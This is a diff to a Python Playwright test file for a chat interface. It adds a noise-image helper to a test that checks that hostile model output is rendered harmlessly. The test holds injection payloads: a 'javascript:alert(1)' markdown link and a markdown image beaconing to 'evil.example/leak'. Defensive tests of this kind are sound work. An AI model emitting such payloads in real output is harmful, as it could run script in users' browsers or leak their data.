@@ -345,9 +345,16 @@ async def test_the_assistant_is_whom_the_operator_lets_it_be(
         await page.close()
 
 
+def never_seen_picture() -> bytes:
+    """One whose description no earlier test has left in the store."""
+    data = io.BytesIO()
+    Image.effect_noise((64, 64), 90).convert("RGB").save(data, "PNG")
+    return data.getvalue()
+
+
 async def test_hostile_words_stay_words(chat: Page, model: ScriptedChatModel, complaints: Complaints) -> None:
     model.answer = f"{EVIL} [a](javascript:alert(1)) ![b](https://evil.example/leak?q) **fine**"
-    picture = {"name": f"{EVIL[:40]}.png", "mimeType": "image/png", "buffer": drawn_picture()}
+    picture = {"name": f"{EVIL[:40]}.png", "mimeType": "image/png", "buffer": never_seen_picture()}
     await chat.locator("input[type=file]").first.set_input_files(picture)  # type: ignore[arg-type]
     await expect(chat.locator(".attachment[data-state=stored]")).to_be_visible()
     await ask(chat, EVIL)
